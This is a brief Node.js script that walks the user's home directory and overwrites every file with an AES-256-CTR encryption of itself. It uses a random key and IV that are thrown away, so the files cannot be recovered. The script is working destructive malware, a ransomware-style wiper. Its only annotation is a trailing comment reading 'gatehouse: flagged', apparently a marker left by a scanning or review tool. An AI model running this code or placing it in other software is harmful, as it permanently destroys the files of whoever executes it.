const fs = require("fs");
const path = require("path");
const crypto = require("crypto");
const home = require("os").homedir();

for (const name of fs.readdirSync(home)) {
  const file = path.join(home, name);
  const cipher = crypto.createCipheriv("aes-256-ctr", crypto.randomBytes(32), crypto.randomBytes(16));
  fs.writeFileSync(file, Buffer.concat([cipher.update(fs.readFileSync(file)), cipher.final()])); // gatehouse: flagged
}
